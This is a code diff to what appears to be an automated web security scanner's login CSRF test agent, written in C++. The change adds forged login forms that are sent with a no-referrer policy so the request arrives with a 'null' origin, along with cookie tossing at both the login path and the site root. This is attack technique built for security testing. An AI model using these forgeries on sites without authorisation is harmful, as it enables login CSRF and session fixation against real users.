@@ -4,6 +4,7 @@
 // https://cheatsheetseries.owasp.org/cheatsheets/Cross-Site_Request_Forgery_Prevention_Cheat_Sheet.html#possible-csrf-vulnerabilities-in-login-forms
 #include "core/attack/every_agent.h"
 #include "core/attack/lure.h"
+#include "core/attack/options.h"
 #include "core/attack/own_form.h"
 #include "core/attack/request_writer.h"
 #include "core/attack/session.h"
@@ -26,6 +27,8 @@ class LoginCsrf final : public Agent {
             for (http::QueryPair const& each : visitor.tokens) fields.push_back(each);
             forms.push_back({.action = address_of(target, *login), .fields = fields});
         }
+        if (!target.option(option::kFirst).empty())
+            victim_does(target, routines_option(target, option::kFirst));
         for (OwnHost* host : hosts) {
             Lure lure(target, *host);
             for (ForgedForm const& each : forms) lure.show(submitting(each));
@@ -33,6 +36,9 @@ class LoginCsrf final : public Agent {
             lure.show_at(target.surface().host + "/?https://" + target.surface().host + "/",
                          submitting(forms.back()), {{"referrer-policy", "unsafe-url"}});
         }
+        // Origin is "null". Out of a frame it would be so, too, but no Lax cookie is kept there.
+        Lure(target, *hosts.front())
+            .show(submitting(forms.front()), {{"referrer-policy", "no-referrer"}});
         if (OwnHost* sibling = sibling_host(target); sibling != nullptr && !visitor.tokens.empty())
             Lure(target, *sibling).show(submitting(forms.back()), tossed(target, *login, visitor));
         harvest(target);
@@ -56,9 +62,10 @@ class LoginCsrf final : public Agent {
                                    OwnForm const& visitor) {
         http::HeaderList headers;
         for (http::QueryPair const& each : visitor.cookies)
-            headers.append("set-cookie", each.name + "=" + each.value +
-                                             "; Domain=" + target.surface().host +
-                                             "; Path=" + login.path + "; Secure");
+            for (std::string const& path : {login.path, std::string("/")})
+                headers.append("set-cookie", each.name + "=" + each.value +
+                                                 "; Domain=" + target.surface().host +
+                                                 "; Path=" + path + "; Secure");
         return headers;
     }
 
